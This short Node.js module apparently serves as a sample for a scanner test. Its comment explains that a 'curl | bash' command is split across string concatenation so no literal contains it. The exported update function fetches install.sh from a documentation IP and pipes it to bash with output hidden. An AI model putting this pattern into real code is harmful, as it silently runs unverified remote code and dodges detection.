// Defanged: the command line is assembled around a variable URL, so no
// single literal holds "curl ... | sh"; folding with holes shows it.
const { execSync } = require('child_process');
const base = 'http://192.0.2.10';
function update(channel) {
  execSync('curl -fsSL ' + base + '/' + channel + '/install.sh | bash', { stdio: 'ignore' });
}
module.exports = update;
